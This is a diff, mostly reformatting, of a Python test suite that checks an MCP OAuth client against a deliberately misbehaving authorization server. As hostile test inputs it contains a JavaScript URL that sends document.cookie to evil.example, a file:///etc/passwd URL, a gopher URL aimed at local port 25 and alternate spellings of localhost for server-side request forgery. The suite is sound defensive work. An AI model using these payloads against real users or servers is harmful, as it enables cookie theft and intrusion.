@@ -50,8 +50,10 @@ ABSENT = object()  # a knob value: leave the parameter out
 def _answer(start_response, status: int, body=b"", content_type="application/json", headers=()):
     if not isinstance(body, bytes):
         body = json.dumps(body).encode()
-    start_response(f"{status} {HTTPStatus(status).phrase}",
-                   [("Content-Type", content_type), ("Content-Length", str(len(body))), *headers])
+    start_response(
+        f"{status} {HTTPStatus(status).phrase}",
+        [("Content-Type", content_type), ("Content-Length", str(len(body))), *headers],
+    )
     return [body]
 
 
@@ -82,11 +84,17 @@ class Mischief:
     def __init__(self, mcp_app):
         self.mcp_app, self.origin = mcp_app, ""
         self.prm, self.prm_fields, self.as_metadata, self.as_fields = True, {}, True, {}
-        self.paths = {"authorize": "/oauth/authorize", "token": "/oauth/token", "register": "/oauth/register"}
+        self.paths = {
+            "authorize": "/oauth/authorize",
+            "token": "/oauth/token",
+            "register": "/oauth/register",
+        }
         self.answers: dict = {}
         self.state, self.iss, self.auth_error = None, "correct", None
         self.granted_scope, self.refuse_tokens, self.step_up_tool = None, False, None
-        self.resource_metadata = None  # the challenge's resource_metadata URL (None: the PRM of this origin)
+        self.resource_metadata = (
+            None  # the challenge's resource_metadata URL (None: the PRM of this origin)
+        )
         self.hits: Counter = Counter()
         self.seen: dict = defaultdict(list)
         self.secrets: set = set()
@@ -96,17 +104,30 @@ class Mischief:
         self.lock = threading.Lock()
 
     def prm_document(self) -> dict:
-        return _merge({"resource": self.origin + "/mcp", "authorization_servers": [self.origin],
-                       "scopes_supported": ["mcp:tools"]}, self.prm_fields)
+        return _merge(
+            {
+                "resource": self.origin + "/mcp",
+                "authorization_servers": [self.origin],
+                "scopes_supported": ["mcp:tools"],
+            },
+            self.prm_fields,
+        )
 
     def as_document(self) -> dict:
-        return _merge({"issuer": self.origin, "authorization_endpoint": self.origin + self.paths["authorize"],
-                       "token_endpoint": self.origin + self.paths["token"],
-                       "registration_endpoint": self.origin + self.paths["register"],
-                       "response_types_supported": ["code"], "grant_types_supported": ["authorization_code", "refresh_token"],
-                       "code_challenge_methods_supported": ["S256"],
-                       "token_endpoint_auth_methods_supported": ["none", "client_secret_post"],
-                       "authorization_response_iss_parameter_supported": True}, self.as_fields)
+        return _merge(
+            {
+                "issuer": self.origin,
+                "authorization_endpoint": self.origin + self.paths["authorize"],
+                "token_endpoint": self.origin + self.paths["token"],
+                "registration_endpoint": self.origin + self.paths["register"],
+                "response_types_supported": ["code"],
+                "grant_types_supported": ["authorization_code", "refresh_token"],
+                "code_challenge_methods_supported": ["S256"],
+                "token_endpoint_auth_methods_supported": ["none", "client_secret_post"],
+                "authorization_response_iss_parameter_supported": True,
+            },
+            self.as_fields,
+        )
 
     def __call__(self, environ, start_response):
         path = environ["PATH_INFO"]
@@ -116,7 +137,11 @@ class Mischief:
             if path == self.paths["token"]:
                 form = {k: v[0] for k, v in parse_qs(body.decode()).items()}
                 self.seen["token"].append(form)
-                self.secrets.update(v for k, v in form.items() if k in ("code", "code_verifier", "client_secret", "refresh_token"))
+                self.secrets.update(
+                    v
+                    for k, v in form.items()
+                    if k in ("code", "code_verifier", "client_secret", "refresh_token")
+                )
             if path == AS_PATH:
                 self.seen["metadata"].append(environ.get("HTTP_MCP_PROTOCOL_VERSION"))
         if path in self.answers:
@@ -139,8 +164,12 @@ class Mischief:
     def authorize(self, environ, start_response):
         query = {k: v[0] for k, v in parse_qs(environ.get("QUERY_STRING", "")).items()}
         self.seen["authorize"].append(query)
-        if (query.get("response_type") != "code" or query.get("code_challenge_method") != "S256"
-                or not query.get("code_challenge") or query.get("client_id") not in self.clients):
+        if (
+            query.get("response_type") != "code"
+            or query.get("code_challenge_method") != "S256"
+            or not query.get("code_challenge")
+            or query.get("client_id") not in self.clients
+        ):
             return _answer(start_response, 400, {"error": "invalid_request"})
         params = {}
         if self.auth_error:
@@ -156,13 +185,27 @@ class Mischief:
             params["state"] = state
         if self.iss is not ABSENT:
             params["iss"] = self.origin if self.iss == "correct" else "https://evil.example"
-        return _answer(start_response, 302, b"", "text/plain", [("Location", query["redirect_uri"] + "?" + urlencode(params))])
+        return _answer(
+            start_response,
+            302,
+            b"",
+            "text/plain",
+            [("Location", query["redirect_uri"] + "?" + urlencode(params))],
+        )
 
     def token(self, start_response):
         form = self.seen["token"][-1]
-        request = self.codes.pop(form.get("code"), None) if form.get("grant_type") == "authorization_code" else None
-        if (request is None or not pkce.verifies(form.get("code_verifier"), request["code_challenge"])
-                or form.get("redirect_uri") != request["redirect_uri"] or form.get("resource") != request.get("resource")):
+        request = (
+            self.codes.pop(form.get("code"), None)
+            if form.get("grant_type") == "authorization_code"
+            else None
+        )
+        if (
+            request is None
+            or not pkce.verifies(form.get("code_verifier"), request["code_challenge"])
+            or form.get("redirect_uri") != request["redirect_uri"]
+            or form.get("resource") != request.get("resource")
+        ):
             return _answer(start_response, 400, {"error": "invalid_grant"})
         client = self.clients.get(form.get("client_id"))
         if client is None or client["client_secret"] != form.get("client_secret"):
@@ -171,10 +214,20 @@ class Mischief:
         with self.lock:
             self.tokens.add(access)
             self.secrets.update((access, refresh))
-        return _answer(start_response, 200, {"access_token": access, "token_type": "Bearer", "expires_in": 3600,
-                                             "refresh_token": refresh,
-                                             "scope": request.get("scope", "") if self.granted_scope is None else self.granted_scope},
-                       headers=[("Cache-Control", "no-store")])
+        return _answer(
+            start_response,
+            200,
+            {
+                "access_token": access,
+                "token_type": "Bearer",
+                "expires_in": 3600,
+                "refresh_token": refresh,
+                "scope": request.get("scope", "")
+                if self.granted_scope is None
+                else self.granted_scope,
+            },
+            headers=[("Cache-Control", "no-store")],
+        )
 
     def register(self, body: bytes, start_response):
         metadata = json.loads(body)
@@ -183,25 +236,50 @@ class Mischief:
         with self.lock:
             self.clients[client_id] = {"client_secret": secret}
             self.secrets.add(secret)
-        return _answer(start_response, 201, {**metadata, "client_id": client_id, "client_secret": secret,
-                                             "token_endpoint_auth_method": "client_secret_post"})
+        return _answer(
+            start_response,
+            201,
+            {
+                **metadata,
+                "client_id": client_id,
+                "client_secret": secret,
+                "token_endpoint_auth_method": "client_secret_post",
+            },
+        )
 
     def mcp(self, environ, body: bytes, start_response):
         header = environ.get("HTTP_AUTHORIZATION", "")
-        token = header[len("Bearer "):] if header.startswith("Bearer ") else None
-        where = f', resource_metadata="{self.resource_metadata or self.origin + PRM_PATH}"' if self.prm else ""
+        token = header[len("Bearer ") :] if header.startswith("Bearer ") else None
+        where = (
+            f', resource_metadata="{self.resource_metadata or self.origin + PRM_PATH}"'
+            if self.prm
+            else ""
+        )
         if token not in self.tokens or self.refuse_tokens:
             invalid = ' error="invalid_token",' if token else ""
-            return _answer(start_response, 401, {"error": "unauthorized"},
-                           headers=[("WWW-Authenticate", f'Bearer{invalid} realm="mcp"{where}')])
+            return _answer(
+                start_response,
+                401,
+                {"error": "unauthorized"},
+                headers=[("WWW-Authenticate", f'Bearer{invalid} realm="mcp"{where}')],
+            )
         try:
             message = json.loads(body) if body else {}
         except ValueError:
             message = {}
-        if (self.step_up_tool and isinstance(message, dict) and message.get("method") == "tools/call"
-                and message.get("params", {}).get("name") == self.step_up_tool):
+        if (
+            self.step_up_tool
+            and isinstance(message, dict)
+            and message.get("method") == "tools/call"
+            and message.get("params", {}).get("name") == self.step_up_tool
+        ):
             challenge = f'Bearer error="insufficient_scope", scope="needs:more"{where}'
-            return _answer(start_response, 403, {"error": "insufficient_scope"}, headers=[("WWW-Authenticate", challenge)])
+            return _answer(
+                start_response,
+                403,
+                {"error": "insufficient_scope"},
+                headers=[("WWW-Authenticate", challenge)],
+            )
         return self.mcp_app({**environ, "wsgi.input": io.BytesIO(body)}, start_response)
 
 
@@ -223,7 +301,9 @@ def app():
     mischief = Mischief(server.wsgi_app())
     httpd = WsgiServer(("127.0.0.1", 0), mischief)
     mischief.origin = httpd.url
-    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    threading.Thread(
+        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
+    ).start()
     yield mischief
     httpd.shutdown()
     httpd.server_close()
@@ -247,7 +327,9 @@ def assert_clean(app: Mischief, caplog, exc: Exception | None = None) -> None:
         message = str(exc)
         assert message.strip() and "\n" not in message and "\r" not in message, repr(message)
         assert not [s for s in app.secrets if s in message], message
-    assert app.secrets or exc is not None  # after a flow that got through, there is something to look for
+    assert (
+        app.secrets or exc is not None
+    )  # after a flow that got through, there is something to look for
     assert not [s for s in app.secrets if s in caplog.text], "a secret reached the mcp_ref log"
 
 
@@ -277,11 +359,24 @@ def test_the_default_mischief_is_a_correct_deployment(app, caplog):
     client-registration §Application Type).  No knob turned: the client gets through."""
     works(app)
     mcp_url = app.origin + "/mcp"
-    [registration], [request], [token] = app.seen["register"], app.seen["authorize"], app.seen["token"]
+    [registration], [request], [token] = (
+        app.seen["register"],
+        app.seen["authorize"],
+        app.seen["token"],
+    )
     assert registration["application_type"] == "native"
-    assert request["resource"] == mcp_url and request["code_challenge_method"] == "S256" and request["state"]
-    assert token["resource"] == mcp_url and pkce.challenge(token["code_verifier"]) == request["code_challenge"]
-    assert token["client_secret"] and len(app.tokens) == 1  # the registered secret was used, one token issued
+    assert (
+        request["resource"] == mcp_url
+        and request["code_challenge_method"] == "S256"
+        and request["state"]
+    )
+    assert (
+        token["resource"] == mcp_url
+        and pkce.challenge(token["code_verifier"]) == request["code_challenge"]
+    )
+    assert (
+        token["client_secret"] and len(app.tokens) == 1
+    )  # the registered secret was used, one token issued
     assert_clean(app, caplog)
 
 
@@ -313,11 +408,15 @@ def test_protected_resource_metadata_without_authorization_servers_is_refused(ap
     assert app.hits[AS_PATH] == 0
 
 
-@pytest.mark.parametrize("issuer", [
-    "https://elsewhere.example",
-    "{origin}/tenant",
-    "{origin}/",
-], ids=["other-origin", "other-path", "trailing-slash"])
+@pytest.mark.parametrize(
+    "issuer",
+    [
+        "https://elsewhere.example",
+        "{origin}/tenant",
+        "{origin}/",
+    ],
+    ids=["other-origin", "other-path", "trailing-slash"],
+)
 def test_authorization_server_metadata_for_another_issuer_is_refused(app, caplog, issuer):
     """RFC 8414 §3.3: the ``issuer`` in the metadata "MUST be identical" to the issuer the well-known
     URL was built from (the one named in the PRM); otherwise it "MUST NOT be used"."""
@@ -327,7 +426,9 @@ def test_authorization_server_metadata_for_another_issuer_is_refused(app, caplog
 
 
 @pytest.mark.parametrize("methods", [None, ["plain"]], ids=["absent", "plain-only"])
-def test_an_authorization_server_without_s256_is_refused_before_the_user_sees_it(app, caplog, methods):
+def test_an_authorization_server_without_s256_is_refused_before_the_user_sees_it(
+    app, caplog, methods
+):
     """2025-11-25 basic/authorization §Authorization Code Protection: "If
     code_challenge_methods_supported is absent, the authorization server does not support PKCE and
     MCP clients MUST refuse to proceed"; S256 is the method MCP clients MUST use."""
@@ -340,7 +441,9 @@ def test_an_authorization_server_without_s256_is_refused_before_the_user_sees_it
 def test_metadata_larger_than_256_kib_is_refused(app, caplog, where):
     """Discovery reads at most MAX_METADATA_BYTES (256 KiB) of a metadata document: a larger one is
     refused, not buffered (2025-11-25 basic/authorization §Security Considerations)."""
-    path, document = (PRM_PATH, app.prm_document()) if where == "resource" else (AS_PATH, app.as_document())
+    path, document = (
+        (PRM_PATH, app.prm_document()) if where == "resource" else (AS_PATH, app.as_document())
+    )
     document["padding"] = "x" * (256 * 1024)
     app.answers[path] = (200, "application/json", json.dumps(document).encode())
     refused(app, caplog, MetadataError)
@@ -356,7 +459,9 @@ def test_a_2025_03_26_server_with_metadata_at_its_origin(app, caplog):
     ``MCP-Protocol-Version`` header."""
     app.prm = False
     works(app)
-    assert app.hits[PRM_PATH] >= 1 and app.hits["/.well-known/oauth-protected-resource"] >= 1  # looked, found none
+    assert (
+        app.hits[PRM_PATH] >= 1 and app.hits["/.well-known/oauth-protected-resource"] >= 1
+    )  # looked, found none
     assert app.seen["metadata"] and set(app.seen["metadata"]) == {"2025-03-26"}
     assert app.hits["/oauth/authorize"] == app.hits["/oauth/token"] == 1  # as the metadata says
     assert_clean(app, caplog)
@@ -381,8 +486,13 @@ def test_a_2025_03_26_server_without_metadata_gets_the_default_endpoints(app, ca
 def test_a_registration_endpoint_that_refuses_is_a_registration_error(app, caplog):
     """RFC 7591 §3.2.2: an error response (here ``invalid_redirect_uri``) means no client id; the
     flow stops (2025-11-25 basic/authorization §Dynamic Client Registration)."""
-    app.answers[app.paths["register"]] = (400, "application/json", json.dumps(
-        {"error": "invalid_redirect_uri", "error_description": "loopback is not allowed"}).encode())
+    app.answers[app.paths["register"]] = (
+        400,
+        "application/json",
+        json.dumps(
+            {"error": "invalid_redirect_uri", "error_description": "loopback is not allowed"}
+        ).encode(),
+    )
     exc = refused(app, caplog, RegistrationError)
     assert "invalid_redirect_uri" in str(exc) and app.hits[app.paths["authorize"]] == 0
 
@@ -398,8 +508,14 @@ def test_no_way_to_get_a_client_id_is_a_registration_error(app, caplog):
 def test_pre_registered_credentials_are_not_used_with_another_issuer(app, caplog):
     """2026-07-28 basic/authorization/client-registration §Authorization Server Binding: credentials
     are bound to the authorization server that issued them; another issuer never sees them."""
-    refused(app, caplog, RegistrationError, client_id="x", client_secret="pre-registered-secret",
-            issuer="https://other.example")
+    refused(
+        app,
+        caplog,
+        RegistrationError,
+        client_id="x",
+        client_secret="pre-registered-secret",
+        issuer="https://other.example",
+    )
     assert not [p for p in app.paths.values() if app.hits[p]]
 
 
@@ -411,7 +527,9 @@ def test_pre_registered_credentials_stay_with_the_first_authorization_server(app
     other = Mischief(None)  # only its authorization server is used
     httpd = WsgiServer(("127.0.0.1", 0), other)
     other.origin = httpd.url
-    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    threading.Thread(
+        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
+    ).start()
     try:
         secret = "pre-registered-" + secrets.token_urlsafe(12)
         app.clients["pre"] = other.clients["pre"] = {"client_secret": secret}
@@ -422,13 +540,24 @@ def test_pre_registered_credentials_stay_with_the_first_authorization_server(app
         assert [form.get("client_secret") for form in app.seen["token"]] == [secret]
         auth.logout()
         app.prm_fields = {"authorization_servers": [other.origin]}
-        with pytest.raises(AuthorizationError) as caught, Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT) as client:
+        with (
+            pytest.raises(AuthorizationError) as caught,
+            Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT) as client,
+        ):
             client.call_tool("hello")
-        assert type(caught.value) is RegistrationError and other.origin in str(caught.value), caught.value
+        assert type(caught.value) is RegistrationError and other.origin in str(caught.value), (
+            caught.value
+        )
         assert_clean(app, caplog, caught.value)
-        assert not other.seen["token"] and not other.seen["authorize"] and not other.hits[other.paths["authorize"]]
+        assert (
+            not other.seen["token"]
+            and not other.seen["authorize"]
+            and not other.hits[other.paths["authorize"]]
+        )
         app.prm_fields = {}
-        with Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT) as client:  # the first one still serves
+        with Client.http(
+            app.origin + "/mcp", auth=auth, timeout=WAIT
+        ) as client:  # the first one still serves
             assert client.call_tool("hello").content[0].text == "hello"
     finally:
         httpd.shutdown()
@@ -442,14 +571,19 @@ def test_a_fixed_assertion_stays_with_the_first_authorization_server(app, caplog
     other = Mischief(None)
     httpd = WsgiServer(("127.0.0.1", 0), other)
     other.origin = httpd.url
-    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    threading.Thread(
+        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
+    ).start()
     try:
         auth = OAuth(assertion="workload-identity-jwt", timeout=WAIT)
         with pytest.raises(TokenError), Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT):
             pass  # this Mischief knows no jwt-bearer grant: refused, but the assertion went to its own issuer
         assert [form.get("assertion") for form in app.seen["token"]] == ["workload-identity-jwt"]
         app.prm_fields = {"authorization_servers": [other.origin]}
-        with pytest.raises(RegistrationError), Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT):
+        with (
+            pytest.raises(RegistrationError),
+            Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT),
+        ):
             pass
         assert not other.seen["token"]
     finally:
@@ -460,12 +594,16 @@ def test_a_fixed_assertion_stays_with_the_first_authorization_server(app, caplog
 # -- the authorization response --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("state", [
-    "not-the-state",
-    "",
-    ABSENT,
-    "\u00e9t\u00e9",
-], ids=["other", "empty", "absent", "non-ascii"])
+@pytest.mark.parametrize(
+    "state",
+    [
+        "not-the-state",
+        "",
+        ABSENT,
+        "\u00e9t\u00e9",
+    ],
+    ids=["other", "empty", "absent", "non-ascii"],
+)
 def test_a_redirect_with_the_wrong_state_is_discarded_and_its_code_never_sent(app, caplog, state):
     """2025-11-25 basic/authorization §Open Redirection: clients "SHOULD use and verify state
     parameters ... and discard any results that do not include or have a mismatch with the
@@ -478,8 +616,11 @@ def test_a_redirect_with_the_wrong_state_is_discarded_and_its_code_never_sent(ap
     assert app.hits[app.paths["authorize"]] == 1 and app.hits[app.paths["token"]] == 0
 
 
-@pytest.mark.parametrize("iss, advertised", [("wrong", True), ("wrong", False), (ABSENT, True)],
-                         ids=["wrong", "wrong-unadvertised", "absent-but-promised"])
+@pytest.mark.parametrize(
+    "iss, advertised",
+    [("wrong", True), ("wrong", False), (ABSENT, True)],
+    ids=["wrong", "wrong-unadvertised", "absent-but-promised"],
+)
 def test_a_redirect_with_a_wrong_or_missing_iss_is_discarded(app, caplog, iss, advertised):
     """2026-07-28 basic/authorization §Authorization Response Validation and RFC 9207 §2.4: an ``iss``
     that differs from the recorded issuer, or none from a server that advertises
@@ -557,11 +698,14 @@ def test_the_loopback_listener_is_closed_when_the_flow_ends(app, caplog):
     redirect came and the flow ended, nothing listens there any more."""
     redirects: list[str] = []
 
-    def browser(url: str) -> None:  # the user approves: their browser follows the redirect to the listener
+    def browser(
+        url: str,
+    ) -> None:  # the user approves: their browser follows the redirect to the listener
         def visit() -> None:
             location = follow_redirect(url, timeout=WAIT)
             redirects.append(location)
             requests.get(location, timeout=WAIT).close()
+
         threading.Thread(target=visit, daemon=True).start()
 
     handler = LoopbackBrowser(open_browser=False, announce=browser)
@@ -584,14 +728,21 @@ def test_a_token_endpoint_answering_html_is_a_token_error(app, caplog):
     app.answers[app.paths["token"]] = (200, "text/html", b"<!doctype html><p>Signed in!")
     exc = refused(app, caplog, TokenError)
     assert exc.error == "" and exc.status == 200
-    assert app.seen["token"] and app.seen["token"][0]["code_verifier"] in app.secrets  # it was sent, and is checked
+    assert (
+        app.seen["token"] and app.seen["token"][0]["code_verifier"] in app.secrets
+    )  # it was sent, and is checked
 
 
 def test_a_token_endpoint_error_is_a_token_error_with_its_code(app, caplog):
     """OAuth 2.1 §3.2.4 (RFC 6749 §5.2): an error response carries ``error`` (``invalid_grant`` ...),
     which the client reports as such."""
-    app.answers[app.paths["token"]] = (400, "application/json", json.dumps(
-        {"error": "invalid_grant", "error_description": "the code has expired"}).encode())
+    app.answers[app.paths["token"]] = (
+        400,
+        "application/json",
+        json.dumps(
+            {"error": "invalid_grant", "error_description": "the code has expired"}
+        ).encode(),
+    )
     exc = refused(app, caplog, TokenError)
     assert exc.error == "invalid_grant" and exc.status == 400 and "invalid_grant" in str(exc)
 
@@ -604,7 +755,10 @@ def test_a_server_that_refuses_the_new_token_is_unauthorized(app, caplog):
     token; a server that answers 401 again is a failure reported once, not a loop of authorizations."""
     app.refuse_tokens = True
     refused(app, caplog, Unauthorized)
-    assert app.hits[app.paths["authorize"]] == app.hits[app.paths["token"]] == 1 and len(app.tokens) == 1
+    assert (
+        app.hits[app.paths["authorize"]] == app.hits[app.paths["token"]] == 1
+        and len(app.tokens) == 1
+    )
 
 
 @pytest.mark.parametrize("max_step_ups", [1, 2, 3])
@@ -620,17 +774,22 @@ def test_step_up_stops_when_the_new_token_already_has_the_scope(app, caplog, max
         before = app.hits[app.paths["authorize"]]
         with pytest.raises(AuthorizationError) as caught:
             client.call_tool("admin")
-        assert type(caught.value) is InsufficientScope, f"{type(caught.value).__name__}: {caught.value}"
+        assert type(caught.value) is InsufficientScope, (
+            f"{type(caught.value).__name__}: {caught.value}"
+        )
         [step_up] = app.seen["authorize"][before:]
-        assert set(step_up["scope"].split()) == {"needs:more", "mcp:tools"}  # the new scope, and the old kept
+        assert set(step_up["scope"].split()) == {
+            "needs:more",
+            "mcp:tools",
+        }  # the new scope, and the old kept
         assert client.call_tool("hello").content[0].text == "hello"
     assert_clean(app, caplog, caught.value)
 
 
-@pytest.mark.parametrize("max_step_ups", [
-    0,
-    1, 2, 3])
-def test_step_up_gives_up_after_max_step_ups_and_the_connection_keeps_working(app, caplog, max_step_ups):
+@pytest.mark.parametrize("max_step_ups", [0, 1, 2, 3])
+def test_step_up_gives_up_after_max_step_ups_and_the_connection_keeps_working(
+    app, caplog, max_step_ups
+):
     """2025-11-25 basic/authorization §Step-Up Authorization Flow: retry "no more than a few times".
     An authorization server that never grants the scope asked for (``needs:more``) and a server that
     keeps asking for it: ``OAuth._on_response`` re-authorizes exactly ``max_step_ups`` times (one
@@ -642,7 +801,9 @@ def test_step_up_gives_up_after_max_step_ups_and_the_connection_keeps_working(ap
         with pytest.raises(AuthorizationError) as caught:
             client.call_tool("admin")
         step_ups = app.seen["authorize"][before:]
-        assert type(caught.value) is InsufficientScope, f"{type(caught.value).__name__}: {caught.value}"
+        assert type(caught.value) is InsufficientScope, (
+            f"{type(caught.value).__name__}: {caught.value}"
+        )
         assert len(step_ups) == max_step_ups and app.hits[app.paths["token"]] == 1 + max_step_ups
         assert all("needs:more" in request["scope"].split() for request in step_ups)
         assert client.call_tool("hello").content[0].text == "hello"
@@ -709,7 +870,9 @@ def _nothing_left_discovery(app: Mischief, lookups: list[str]) -> None:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("endpoint", DANGEROUS_URLS)
-def test_a_dangerous_authorization_endpoint_never_reaches_the_browser(app, caplog, lookups, endpoint):
+def test_a_dangerous_authorization_endpoint_never_reaches_the_browser(
+    app, caplog, lookups, endpoint
+):
     """2025-11-25 basic/authorization §Communication Security: "All authorization server endpoints MUST
     be served over HTTPS"; a ``javascript:`` / ``file:`` one is handed to nobody.  Refused at discovery
     (MetadataError naming the field), before registration, before the user's browser is involved; the
@@ -726,12 +889,21 @@ def test_a_dangerous_authorization_endpoint_never_reaches_the_browser(app, caplo
 def test_the_default_browser_handler_never_opens_a_javascript_endpoint(app, caplog, browser):
     """The default handler (LoopbackBrowser, opening the system browser): neither announced nor opened."""
     announced: list[str] = []
-    app.as_fields = {"authorization_endpoint": "javascript:fetch('https://evil.example/?'+document.cookie)"}
-    refused(app, caplog, MetadataError, handler=LoopbackBrowser(open_browser=True, announce=announced.append))
+    app.as_fields = {
+        "authorization_endpoint": "javascript:fetch('https://evil.example/?'+document.cookie)"
+    }
+    refused(
+        app,
+        caplog,
+        MetadataError,
+        handler=LoopbackBrowser(open_browser=True, announce=announced.append),
+    )
     assert browser == [] and announced == []
 
 
-@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/authorize?x=1"])
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/authorize?x=1"]
+)
 def test_the_browser_handlers_check_the_url_themselves(browser, url):
     """Whoever built the URL (a ServerMetadata of one's own): LoopbackBrowser and follow_redirect refuse it."""
     handler = LoopbackBrowser(open_browser=True, announce=None)
@@ -747,10 +919,26 @@ def test_the_browser_handlers_check_the_url_themselves(browser, url):
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("field", ["token_endpoint", "registration_endpoint", "jwks_uri", "revocation_endpoint",
-                                   "introspection_endpoint", "pushed_authorization_request_endpoint"])
-@pytest.mark.parametrize("url", ["http://example.com/endpoint", "file:///etc/passwd", "javascript:alert(1)",
-                                 "https://user@example.com/endpoint"])
+@pytest.mark.parametrize(
+    "field",
+    [
+        "token_endpoint",
+        "registration_endpoint",
+        "jwks_uri",
+        "revocation_endpoint",
+        "introspection_endpoint",
+        "pushed_authorization_request_endpoint",
+    ],
+)
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://example.com/endpoint",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "https://user@example.com/endpoint",
+    ],
+)
 def test_every_endpoint_of_the_metadata_is_checked(app, caplog, lookups, field, url):
     """Every URL of the authorization server metadata (RFC 8414 §2), used by this client or not: a
     client secret, a code and a verifier would go to the token endpoint in the clear."""
@@ -762,11 +950,32 @@ def test_every_endpoint_of_the_metadata_is_checked(app, caplog, lookups, field, 
     works(app)
 
 
-@pytest.mark.parametrize("servers", [
-    ["http://example.com"], ["javascript:alert(1)"], ["file:///etc"], ["https://user@example.com"],
-    ["{origin}?tenant=1"], ["{origin}#x"], ["{origin}", "data:,x"], ["https://example.com", "http://example.net"],
-], ids=["http", "javascript", "file", "userinfo", "query", "fragment", "second-bad", "second-http"])
-def test_authorization_servers_named_by_the_resource_are_checked_before_any_fetch(app, caplog, lookups, servers):
+@pytest.mark.parametrize(
+    "servers",
+    [
+        ["http://example.com"],
+        ["javascript:alert(1)"],
+        ["file:///etc"],
+        ["https://user@example.com"],
+        ["{origin}?tenant=1"],
+        ["{origin}#x"],
+        ["{origin}", "data:,x"],
+        ["https://example.com", "http://example.net"],
+    ],
+    ids=[
+        "http",
+        "javascript",
+        "file",
+        "userinfo",
+        "query",
+        "fragment",
+        "second-bad",
+        "second-http",
+    ],
+)
+def test_authorization_servers_named_by_the_resource_are_checked_before_any_fetch(
+    app, caplog, lookups, servers
+):
     """RFC 9728 §2 ``authorization_servers`` are issuer identifiers (RFC 8414 §2: "a URL that uses the
     https scheme and has no query or fragment components"): a bad one is refused before any of them
     is asked for its metadata."""
@@ -783,9 +992,19 @@ def test_a_resource_with_a_fragment_is_refused(app, caplog):
     assert app.hits[AS_PATH] == 0
 
 
-@pytest.mark.parametrize("where", ["file:///etc/passwd", "http://example.com/.well-known/oauth-protected-resource",
-                                   "https://user:pw@example.com/prm", "javascript:alert(1)", "gopher://127.0.0.1:25/x"])
-def test_a_dangerous_resource_metadata_url_in_the_challenge_is_never_fetched(app, caplog, lookups, where):
+@pytest.mark.parametrize(
+    "where",
+    [
+        "file:///etc/passwd",
+        "http://example.com/.well-known/oauth-protected-resource",
+        "https://user:pw@example.com/prm",
+        "javascript:alert(1)",
+        "gopher://127.0.0.1:25/x",
+    ],
+)
+def test_a_dangerous_resource_metadata_url_in_the_challenge_is_never_fetched(
+    app, caplog, lookups, where
+):
     """The WWW-Authenticate ``resource_metadata`` (RFC 9728 §5.1) comes from the server: checked before
     it is fetched; nothing else is tried (the spec's "MUST use" leaves no fallback to a bad URL)."""
     app.resource_metadata = where
@@ -801,11 +1020,20 @@ def test_check_url_keeps_loopback_targets_for_loopback_referrers():
     a loopback deployment (tests, a local dev server) may; a referrer's own origin keeps its scheme."""
     from mcp_ref.oauth.discovery import check_issuer, check_url, legacy_authorization_server
 
-    assert check_url("http://127.0.0.1:9/authorize", "x", referrer="http://localhost:8") == "http://127.0.0.1:9/authorize"
+    assert (
+        check_url("http://127.0.0.1:9/authorize", "x", referrer="http://localhost:8")
+        == "http://127.0.0.1:9/authorize"
+    )
     assert check_url("https://as.example/authorize?a=1", "x", referrer="https://mcp.example")
-    assert check_url("http://mcp.example/prm", "x", referrer="http://mcp.example/mcp")  # the origin the user named
-    for url, referrer in [("http://127.0.0.1:631/admin", "https://as.example"), ("https://localhost/x", "https://as.example"),
-                          ("http://[::1]/x", "https://mcp.example/mcp"), ("http://mcp.example.net/prm", "http://mcp.example/mcp")]:
+    assert check_url(
+        "http://mcp.example/prm", "x", referrer="http://mcp.example/mcp"
+    )  # the origin the user named
+    for url, referrer in [
+        ("http://127.0.0.1:631/admin", "https://as.example"),
+        ("https://localhost/x", "https://as.example"),
+        ("http://[::1]/x", "https://mcp.example/mcp"),
+        ("http://mcp.example.net/prm", "http://mcp.example/mcp"),
+    ]:
         with pytest.raises(MetadataError):
             check_url(url, "x", referrer=referrer)
     with pytest.raises(MetadataError, match="query"):
@@ -814,15 +1042,28 @@ def test_check_url_keeps_loopback_targets_for_loopback_referrers():
         check_url("x" * 10, "x")
     with pytest.raises(MetadataError, match="well-formed"):
         check_url("https://as.example/" + "a" * 9000, "x")
-    with pytest.raises(MetadataError, match="HTTPS"):  # 2025-03-26: the MCP server's origin is the AS; plain http
+    with pytest.raises(
+        MetadataError, match="HTTPS"
+    ):  # 2025-03-26: the MCP server's origin is the AS; plain http
         legacy_authorization_server(requests.Session(), "http://mcp.example/mcp", timeout=1)
 
 
 #: This machine, spelled as a browser, urllib3 or the resolver still reads it (issue 20 review).
-THIS_MACHINE = ["https://127.1/token", "https://2130706433/token", "https://0x7f.0.0.1/token", "https://0177.0.0.1/token",
-                "https://0/token", "https://0.0.0.0/token", "https://127.0.0.1./token", "https://localhost./token",
-                "https://admin.localhost/token", "https://[::ffff:127.0.0.1]/token", "https://[::ffff:7f00:1]/token",
-                "https://[::]/token", "https://[0:0:0:0:0:0:0:1]/token"]
+THIS_MACHINE = [
+    "https://127.1/token",
+    "https://2130706433/token",
+    "https://0x7f.0.0.1/token",
+    "https://0177.0.0.1/token",
+    "https://0/token",
+    "https://0.0.0.0/token",
+    "https://127.0.0.1./token",
+    "https://localhost./token",
+    "https://admin.localhost/token",
+    "https://[::ffff:127.0.0.1]/token",
+    "https://[::ffff:7f00:1]/token",
+    "https://[::]/token",
+    "https://[0:0:0:0:0:0:0:1]/token",
+]
 
 
 @pytest.mark.parametrize("url", THIS_MACHINE)
@@ -838,15 +1079,29 @@ def test_a_remote_party_cannot_name_this_machine_in_another_spelling(url):
